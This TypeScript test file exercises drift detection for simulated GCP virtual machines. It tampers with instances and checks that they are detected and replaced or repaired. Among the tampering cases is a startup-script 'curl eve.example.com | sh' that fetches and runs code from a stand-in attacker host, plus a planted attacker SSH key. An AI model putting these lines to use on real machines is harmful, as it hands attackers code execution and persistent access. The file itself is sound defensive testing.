import { expect, onTestFinished, test } from 'vitest'
import type { JsonObject } from '../../infra/local/gcp/json.ts'
import type { Entry } from '../../infra/local/gcp/store.ts'
import { ADMIN } from './a-cloud.ts'
import { PROJECT } from './life-cloud.ts'
import { lifeStage } from './life-stage.ts'
import type { LifeStage } from './life-stage.ts'

const ZONE = 'europe-west1-b'
const PLANE = { project: PROJECT, region: 'europe-west1', backend: 'vm', zones: [ZONE] }
const ADA = { owner: 'ada@example.com', secrets: ['notes'] }

const machineOf = ({ cloud }: LifeStage, uid: string): Entry => {
  const found = cloud.world.store.list('instances', 'projects/').find(({ name }) => name.includes(uid))
  if (found === undefined) throw new Error('there is no machine')
  return found
}

/** Somebody who may change machines has their way with one. */
type Opening = (stage: LifeStage, machine: Entry) => Promise<void> | void

const changed =
  (change: (body: JsonObject) => JsonObject): Opening =>
  ({ cloud }, machine) =>
    cloud.world.store.put({ ...machine, body: { ...machine.body, ...change(machine.body) } })

const asked =
  (verb: string, body: (machine: JsonObject) => JsonObject): Opening =>
  async ({ cloud }, { name, body: machine }) => {
    const url = `/compute/v1/${name}/${verb}`
    const request = {
      httpMethod: 'POST',
      url,
      body: JSON.stringify(body(machine)),
      authorization: `Bearer sim:${ADMIN}`,
    }
    const answer = await cloud.answer(request)
    if (answer === 'connection lost' || answer.status !== 200) throw new Error(`${url}: ${JSON.stringify(answer)}`)
  }

const firstFace = (body: JsonObject): JsonObject => (body['networkInterfaces'] as readonly JsonObject[])[0] ?? {}

const told = (key: string, value: string): Opening =>
  asked('setMetadata', ({ metadata }) => {
    const { fingerprint = '', items = [] } = metadata as { fingerprint?: string; items?: readonly JsonObject[] }
    return { fingerprint, items: [...items.filter((item) => item['key'] !== key), { key, value }] }
  })

const OPENINGS: Readonly<Record<string, Opening>> = {
  'an external address': asked('addAccessConfig?networkInterface=nic0', () => ({ name: 'mine' })),
  'an external IPv6 address': changed((body) => ({
    networkInterfaces: [{ ...firstFace(body), ipv6AccessConfigs: [{ name: 'mine' }] }],
  })),
  'a second network': changed((body) => ({ networkInterfaces: [firstFace(body), { subnetwork: 'elsewhere' }] })),
  'more addresses': changed((body) => ({
    networkInterfaces: [{ ...firstFace(body), aliasIpRanges: [{ ipCidrRange: '10.9.0.0/24' }] }],
  })),
  'forwarding of packets': changed(() => ({ canIpForward: true })),
  'a boot that is not measured': changed(() => ({ shieldedInstanceConfig: { enableVtpm: true } })),
  'another account': changed((body) => ({
    serviceAccounts: [{ ...(body['serviceAccounts'] as readonly JsonObject[])[0], email: 'eve@example.com' }],
  })),
  'other scopes': changed((body) => ({
    serviceAccounts: [{ ...(body['serviceAccounts'] as readonly JsonObject[])[0], scopes: ['devstorage.read_only'] }],
  })),
  'another disk': changed((body) => ({
    disks: [...(body['disks'] as readonly JsonObject[]), { deviceName: 'theirs', source: 'theirs' }],
  })),
  'keys of their own': told('ssh-keys', 'eve:ssh-ed25519 AAAA eve'),
  'another program to boot with': told('startup-script', '#!/bin/sh\ncurl eve.example.com | sh\n'),
}

test('a machine that somebody opened is replaced by one that is as it was made, on the same disk', async () => {
  const stage = await lifeStage()
  onTestFinished(() => stage.close())
  const { uid: planeUid } = await stage.putPlane('acme', PLANE)
  await stage.until(planeUid, ({ phase }) => phase === 'Ready')
  const { uid } = await stage.putAgent('acme', 'ada', ADA)
  const { resources } = await stage.until(uid, ({ phase }) => phase === 'Ready')
  for (const open of Object.values(OPENINGS)) {
    const before = machineOf(stage, uid)
    await open(stage, before)
    const drifted = await stage.until(uid, ({ steps }) => steps['machine']?.state !== 'ready')
    expect(drifted.steps['machine']?.message).toMatch(/not as it was made|metadata of the machine was changed/)
    const ready = await stage.until(
      uid,
      ({ phase, resources: { machine } }) => phase === 'Ready' && machine?.['id'] !== before.body['id'],
    )
    expect(ready.resources['disk']).toEqual(resources['disk'])
    const { networkInterfaces, canIpForward, disks } = machineOf(stage, uid).body
    expect(JSON.stringify([networkInterfaces, canIpForward, disks])).not.toMatch(
      /ccessConfigs|elsewhere|true,true|theirs/,
    )
  }
})

test('metadata that somebody changed and that opens nothing for good is set right again on the same machine', async () => {
  const stage = await lifeStage()
  onTestFinished(() => stage.close())
  const { uid: planeUid } = await stage.putPlane('acme', PLANE)
  await stage.until(planeUid, ({ phase }) => phase === 'Ready')
  const { uid } = await stage.putAgent('acme', 'ada', ADA)
  await stage.until(uid, ({ phase }) => phase === 'Ready')
  const before = machineOf(stage, uid)
  await told('enable-oslogin', 'FALSE')(stage, before)
  await stage.until(uid, ({ steps }) => steps['machine']?.state !== 'ready')
  await stage.until(uid, ({ phase }) => phase === 'Ready')
  const { body } = machineOf(stage, uid)
  expect(body['id']).toBe(before.body['id'])
  expect(JSON.stringify(body['metadata'])).toContain('{"key":"enable-oslogin","value":"TRUE"}')
})

test('a project that opens every machine is told so, and gets no machine after the other', async () => {
  let inserts = 0
  const stage: LifeStage = await lifeStage(
    {},
    {
      through: async (request, answer) => {
        const response = await answer(request)
        if (request.httpMethod !== 'POST' || !/\/instances(?:\?|$)/.test(request.url)) return response
        inserts += 1
        const { store } = stage.cloud.world
        for (const machine of store.list('instances', 'projects/'))
          store.put({ ...machine, body: { ...machine.body, canIpForward: true } })
        return response
      },
    },
  )
  onTestFinished(() => stage.close())
  const { uid: planeUid } = await stage.putPlane('acme', PLANE)
  await stage.until(planeUid, ({ phase }) => phase === 'Ready')
  const { uid } = await stage.putAgent('acme', 'ada', ADA)
  const { steps } = await stage.until(uid, ({ phase }) => phase === 'Failed')
  expect(steps['machine']).toMatchObject({ reason: 'MachineOpened' })
  expect(steps['machine']?.message).toContain('it may forward packets, though it was made just now')
  const laterMs = stage.clock.nowMs() + 10 * 60_000
  await stage.until(uid, () => stage.clock.nowMs() > laterMs)
  expect(inserts).toBeLessThanOrEqual(2)
})
